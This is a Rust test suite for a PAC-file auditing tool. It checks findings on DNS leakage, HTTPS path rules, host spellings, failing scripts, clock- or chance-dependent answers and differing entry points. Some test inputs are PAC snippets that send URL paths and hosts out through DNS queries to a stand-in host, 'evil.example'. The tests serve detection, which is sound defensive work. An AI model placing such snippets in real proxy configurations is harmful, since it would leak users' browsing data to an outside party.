//! What an audit says about the content of a PAC file, each finding with its witness.

use serde_json::Value;

use crate::program::Place;
use crate::support::dns_server::Zone;

/// Severities and evidence of the findings with this code on a script with this body.
fn found(body: &str, code: &str) -> Vec<(String, String)> {
    let report = report(body, "--offline");
    let findings = report["findings"].as_array().unwrap();
    let of_code = findings.iter().filter(|it| it["code"] == code);
    of_code
        .map(|it| {
            let evidence = it["evidence"].as_array().unwrap();
            let lines: Vec<&str> = evidence.iter().map(|it| it.as_str().unwrap()).collect();
            (
                it["severity"].as_str().unwrap().to_owned(),
                lines.join("\n"),
            )
        })
        .collect()
}

fn report(body: &str, more: &str) -> Value {
    let place = Place::script(body);
    let run = place.run(&format!(
        "audit --pac x.pac --allow-proxy proxy.example --my-ip 10.0.0.7 --format json {more}"
    ));
    serde_json::from_str(&run.out).unwrap_or_else(|error| panic!("{error}: {run:#?}"))
}

const END: &str = "\nreturn 'PROXY proxy.example:8080';";

/// Everything that a plain corporate file does.
const GOOD: &str = "host = host.toLowerCase();\n\
    if (host.charAt(host.length - 1) == '.') host = host.substring(0, host.length - 1);\n\
    if (isPlainHostName(host) || dnsDomainIs(host, '.example.com')) return 'DIRECT';\n\
    if (shExpMatch(url, 'http://www.example.net/files/*')) return 'DIRECT';\n\
    if (isInNet(host, '10.0.0.0', '255.0.0.0')) return 'DIRECT';";

const CODES: [&str; 6] = ["P-03", "P-04", "P-05", "P-12", "P-13", "P-14"];

#[test]
fn a_plain_file_has_none_of_these_findings() {
    for code in ["P-03", "P-05", "P-12", "P-13"] {
        assert_eq!(found(&format!("{GOOD}{END}"), code), [], "{code}");
    }
    let simple = "if (dnsDomainIs(host, '.example.com')) return 'DIRECT';";
    assert_eq!(found(&format!("{simple}{END}"), "P-04"), []);
}

#[test]
fn parts_of_urls_in_dns_questions_are_found_however_they_are_written() {
    for (body, part) in [
        (
            "dnsResolve(url.split('/')[3] + '.evil.example');",
            "the path of http://",
        ),
        (
            "var s = ''; for (var i = 0; i < url.length; i++) s += (url.charCodeAt(i) % 16).toString(16);\n\
             isResolvable(s.substring(s.length - 40) + '.evil.example');",
            "a question for",
        ),
        (
            "isInNet(host.replace(/\\./g, '-') + '.evil.example', '10.0.0.0', '255.0.0.0');",
            "the host pacchecksecretone.",
        ),
        (
            "isInNet(url.substring(8, 20) + '.evil.example', '10.0.0.0', '255.0.0.0');",
            "a question for pacchecksecr.evil.example",
        ),
        (
            "if (dnsDomainIs(host, '.corp.example')) dnsResolve(url.length + '.evil.example');",
            "the path of http://www.corp.example/",
        ),
    ] {
        let found = found(&format!("{body}{END}"), "P-03");
        assert_eq!(found.len(), 1, "{body}");
        assert_eq!(found[0].0, "high");
        assert!(found[0].1.contains(part), "{found:?}");
    }
    // A host may be asked for, and so may its parents and names that stand in the file.
    let fine = "dnsResolve(host); dnsResolve(host.substring(host.indexOf('.') + 1)); dnsResolve('a.example');";
    assert_eq!(found(&format!("{fine}{END}"), "P-03"), []);
}

#[test]
fn rules_for_the_path_of_https_urls_are_found_by_what_the_file_itself_says() {
    let body = "if (shExpMatch(url, 'https://www.example.com/pkiops/*')) return 'DIRECT';";
    let found_here = found(&format!("{body}{END}"), "P-04");
    assert_eq!(found_here.len(), 1);
    assert!(
        found_here[0]
            .1
            .contains("https://www.example.com/pkiops/x: DIRECT"),
        "{found_here:?}"
    );
}

#[test]
fn spellings_that_matter_are_found() {
    let body = "if (shExpMatch(host, '*.pac-check-host.example') || host == 'pac-check-host.example') return 'DIRECT';";
    let spelled = found(&format!("{body}{END}"), "P-05");
    assert_eq!(spelled.len(), 1, "{spelled:?}");
    assert!(
        spelled[0].1.contains("https://pac-check-host.example./"),
        "{spelled:?}"
    );
}

#[test]
fn hosts_of_the_files_own_text_are_tried_too() {
    let body = "if (host == 'intranet.corp.example') return 'DIRECT'; if (host == 'bad.corp.example') return x.y;";
    let spelled = found(&format!("{body}{END}"), "P-05");
    assert!(
        spelled[0]
            .1
            .contains("https://intranet.corp.example./: PROXY"),
        "{spelled:?}"
    );
    let failing = found(&format!("{body}{END}"), "P-12");
    assert!(
        failing[0].1.contains("https://bad.corp.example/: "),
        "{failing:?}"
    );
}

#[test]
fn a_file_that_fails_for_some_urls_is_found() {
    let body = "var parts = host.split('.'); if (parts[1].length == 0) return 'DIRECT';";
    let failing = found(&format!("{body}{END}"), "P-12");
    assert_eq!(failing.len(), 1);
    assert!(failing[0].1.contains("http://intranet/: "), "{failing:?}");
    let nothing =
        "if (url.substring(0, 5) == 'https') return 'DIRECT'; if (host == 'intranet') return;";
    assert!(
        found(&format!("{nothing}{END}"), "P-12")[0]
            .1
            .contains("undefined")
    );
}

#[test]
fn clock_address_and_chance_are_told_apart() {
    for (body, severity, part) in [
        ("if (timeRange(0, 11)) return 'DIRECT';", "info", "and then"),
        (
            "if (weekdayRange('MON', 'WED')) return 'DIRECT';",
            "info",
            "and then",
        ),
        (
            "if (isInNet(myIpAddress(), '192.168.0.0', '255.255.0.0')) return 'DIRECT';",
            "info",
            "and then DIRECT",
        ),
        (
            "if (isInNet(myIpAddress(), '10.20.0.0', '255.255.0.0')) return 'DIRECT';",
            "info",
            "and then DIRECT",
        ),
        (
            "if (myIpAddress().indexOf('10.33.') == 0) return 'DIRECT';",
            "info",
            "and then DIRECT",
        ),
        (
            "if (weekdayRange('SAT', 'SUN') && timeRange(8, 18)) return 'DIRECT';",
            "info",
            "and then",
        ),
        ("if (dateRange(1)) return 'DIRECT';", "info", "and then"),
        (
            "if (typeof n == 'undefined') n = 0; n++; return 'PROXY p' + n + ':1';",
            "medium",
            "PROXY p",
        ),
        (
            "return 'PROXY p' + Math.random() + ':1';",
            "medium",
            "PROXY p0.",
        ),
    ] {
        let found = found(&format!("{body}{END}"), "P-13");
        assert_eq!(found.len(), 1, "{body}: {found:?}");
        assert_eq!(found[0].0, severity, "{body}");
        assert!(found[0].1.contains(part), "{body}: {found:?}");
    }
}

/// The evidence of P-14 for a whole file.
fn by_entry_point(text: &str) -> Vec<String> {
    let place = Place::new().with("x.pac", text);
    let run = place.run("audit --pac x.pac --offline --format json");
    let report: Value = serde_json::from_str(&run.out).unwrap();
    let findings = report["findings"].as_array().unwrap();
    let of_code = findings.iter().filter(|it| it["code"] == "P-14");
    of_code
        .flat_map(|it| it["evidence"].as_array().unwrap())
        .map(|line| line.as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn an_entry_point_that_only_windows_calls_is_compared() {
    let usual = "function FindProxyForURL(url, host) {\n\
                 if (dnsDomainIs(host, '.corp.example')) return 'DIRECT';\n\
                 return 'PROXY p.example:1';\n}\n";
    let other =
        format!("{usual}function FindProxyForURLEx(url, host) {{ return 'PROXY p.example:1'; }}");
    assert_eq!(
        by_entry_point(&other)[0],
        "https://www.corp.example/: PROXY p.example:1 by FindProxyForURLEx, DIRECT by FindProxyForURL"
    );
    for same in [
        usual.to_owned(),
        format!(
            "{usual}function FindProxyForURLEx(url, host) {{ return FindProxyForURL(url, host); }} // end"
        ),
        // Written otherwise, and meant alike.
        format!(
            "{usual}function FindProxyForURLEx(url, host) {{\n\
                 return FindProxyForURL(url, host).replace('PROXY', 'proxy') + ' ;'; }}"
        ),
        format!("{usual}// FindProxyForURLEx is not here"),
    ] {
        assert_eq!(by_entry_point(&same), [""; 0], "{same}");
    }
    let failing = format!("{usual}function FindProxyForURLEx(url, host) {{ return nothing; }}");
    assert!(by_entry_point(&failing)[0].contains("an error"));
}

#[test]
fn where_chance_decides_nothing_else_is_blamed() {
    let body =
        "dnsResolve('n' + Math.random() + '.example'); return 'PROXY p' + Math.random() + ':1';";
    for code in ["P-03", "P-04", "P-05"] {
        assert_eq!(found(body, code), [], "{code}");
    }
    assert_eq!(found(body, "P-13").len(), 1);
    let both = "dnsResolve(Math.random() + url.split('/')[3] + '.example'); return 'PROXY p' + Math.random() + ':1';";
    assert_eq!(found(both, "P-03").len(), 1);
}

#[test]
fn nobody_is_asked_for_these_findings() {
    let dns = Zone::default().serve();
    let body = format!(
        "dnsResolve('asked.example'); dnsResolve(url.split('/')[3] + '.evil.example');{END}"
    );
    let report = report(&body, &format!("--dns-server {}", dns.address));
    let findings = report["findings"].as_array().unwrap();
    assert!(
        findings.iter().any(|it| it["code"] == "P-03"),
        "{findings:#?}"
    );
    for question in dns.asked() {
        assert!(!question.contains("secret"), "{question}");
    }
}

#[test]
fn a_script_that_never_ends_has_its_answers_and_no_findings_of_these() {
    let report = report("while (true) {}", "--offline --timeout 0.3");
    let findings = report["findings"].as_array().unwrap();
    for code in CODES {
        assert!(
            findings.iter().all(|it| it["code"] != code),
            "{findings:#?}"
        );
    }
}
